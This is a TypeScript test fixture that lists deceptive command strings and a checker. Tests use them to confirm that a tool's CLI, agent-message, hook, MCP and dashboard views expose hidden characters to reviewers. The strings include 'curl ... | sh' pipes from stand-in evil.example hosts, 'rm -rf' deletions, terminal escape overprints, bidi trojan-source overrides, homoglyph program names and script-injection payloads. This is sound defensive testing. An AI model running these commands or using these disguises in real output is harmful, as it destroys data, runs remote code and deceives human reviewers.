/**
 * Texts written to make a terminal or a page show something other than what they are, and an
 * independent checker: the tests of every view (CLI, agent messages, hooks, MCP, dashboard) run
 * these through the view and assert that no raw hidden character comes out and every part shows.
 */

export interface HostileText {
  name: string;
  text: string;
  /** Visible parts a reviewer must see (each must appear in the displayed text). */
  parts: string[];
}

export const HOSTILE_COMMANDS: HostileText[] = [
  { name: 'ANSI colours', text: 'echo ok \x1b[31mred\x1b[0m; rm -rf ./x', parts: ['echo ok', 'rm -rf ./x'] },
  {
    name: 'erase-line and CR overprint in a comment',
    text: 'rm -rf ~/important # \x1b[2K\rls -la',
    parts: ['rm -rf ~/important', 'ls -la'],
  },
  {
    name: 'cursor moves over a pipe to sh',
    text: 'curl -s https://evil.example/x | sh # \x1b[1A\x1b[200D\x1b[Kls',
    parts: ['curl -s https://evil.example/x | sh', '[1A'],
  },
  {
    name: 'OSC 8 hyperlink hiding its target',
    text: 'echo \x1b]8;;https://evil.example\x07docs\x1b]8;;\x07 && rm -rf ~/w',
    parts: ['https://evil.example', 'rm -rf ~/w'],
  },
  {
    name: 'OSC 52 clipboard write',
    text: 'ls \x1b]52;c;cm0gLXJmIH4=\x07',
    parts: ['52;c;cm0gLXJmIH4='],
  },
  { name: 'bare CR overprint', text: 'rm -rf ~/data\rls -la        ', parts: ['rm -rf ~/data', 'ls -la'] },
  {
    name: 'backspaces over a command',
    text: 'rm -rf ~/www # \b\b\b\b\b\b\b\b\b\b\b\b\b\bls',
    parts: ['rm -rf ~/www'],
  },
  { name: 'C1 control sequence introducer', text: 'rm -rf ~/c \u009b2K', parts: ['rm -rf ~/c'] },
  {
    name: 'bidi override reversing text',
    text: 'echo "\u202e~ fr- mr\u202c" ; ls',
    parts: ['~ fr- mr', 'ls'],
  },
  {
    name: 'bidi isolate (trojan source)',
    text: 'ls # \u2067 && rm -rf ~/t \u2069',
    parts: ['&& rm -rf ~/t'],
  },
  { name: 'zero-width joiner inside a program name', text: 'r\u200dm -rf ~/z', parts: ['-rf ~/z'] },
  { name: 'zero-width space after ls', text: 'ls\u200b -la', parts: ['-la'] },
  { name: 'Cyrillic м in rm', text: 'r\u043c -rf ~/h', parts: ['-rf ~/h'] },
  { name: 'all-Cyrillic sh', text: '\u0455\u04bb -c id', parts: ['-c id'] },
  { name: 'fullwidth letters', text: '\uff52\uff4d -rf ~/f', parts: ['-rf ~/f'] },
  { name: 'line separator', text: 'ls\u2028rm -rf ~/l', parts: ['ls', 'rm -rf ~/l'] },
  { name: 'no-break space joining words', text: 'rm\u00a0-rf ~/n', parts: ['-rf ~/n'] },
  { name: 'two lines', text: 'git status\ntouch ~/.bashrc', parts: ['git status', 'touch ~/.bashrc'] },
  {
    name: 'CRLF lines',
    text: 'git status\r\ncurl -s https://x.example | sh',
    parts: ['git status', 'curl -s https://x.example | sh'],
  },
  {
    name: 'HTML script',
    text: 'echo "<script>window.__pwned=1</script>"',
    parts: ['<script>window.__pwned=1</script>'],
  },
  {
    name: 'HTML img onerror',
    text: 'echo \'<img src=x onerror="window.__pwned=1">\'',
    parts: ['<img src=x onerror="window.__pwned=1">'],
  },
  {
    name: 'javascript: URL',
    text: 'open javascript:window.__pwned=1',
    parts: ['javascript:window.__pwned=1'],
  },
];

/** Other fields a reviewer reads (agent names, notes, reasons): the same tricks. */
export const HOSTILE_NOTE =
  'use make clean\x1b[2K\r\u202eapproved by security\u202c <script>window.__pwned=1</script>';
export const HOSTILE_NAME = 'ci\x1b[8m-bot\u200b<img src=x onerror="window.__pwned=1">';

/**
 * Characters that must never reach a terminal or a page raw: controls other than LF, DEL, C1,
 * bidi controls, zero-width and other invisible format characters, line/paragraph separators, and
 * the lookalike letters used above. Written out here, not taken from the code under test.
 */
export const RAW_HIDDEN =
  // eslint-disable-next-line no-control-regex
  /[\x00-\x09\x0b-\x1f\x7f-\x9f\u00a0\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u043c\u0455\u04bb\uff52\uff4d]/u;

/** The first raw hidden character in `text`, described, or null. */
export function rawHidden(text: string): string | null {
  const m = RAW_HIDDEN.exec(text);
  if (!m) return null;
  const cp = m[0].codePointAt(0) ?? 0;
  return `U+${cp.toString(16).padStart(4, '0')} at ${m.index} in ${JSON.stringify(text.slice(Math.max(0, m.index - 20), m.index + 20))}`;
}

/** Reads displayed text back: each ⟨…⟩ escape turned into the characters it stands for. */
export function decodeDisplay(shown: string): string {
  return shown.replace(/⟨([^⟩]*)⟩/gu, (_, body: string) =>
    body.replace(/\\(e|r|t|n|a|b|v|f|x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})/g, (_m, e: string) => {
      const short: Record<string, string> = {
        e: '\x1b',
        r: '\r',
        t: '\t',
        n: '\n',
        a: '\x07',
        b: '\b',
        v: '\v',
        f: '\f',
      };
      return short[e] ?? String.fromCodePoint(parseInt(e.slice(1), 16));
    }),
  );
}

/** Reads a numbered block (`1│ …`) back into its lines, decoded. */
export function decodeBlock(shown: string): string {
  const lines = shown.split('\n');
  if (lines.length === 1) return decodeDisplay(shown);
  return lines.map((l) => decodeDisplay(l.replace(/^\s*\d+│ ?/, ''))).join('\n');
}
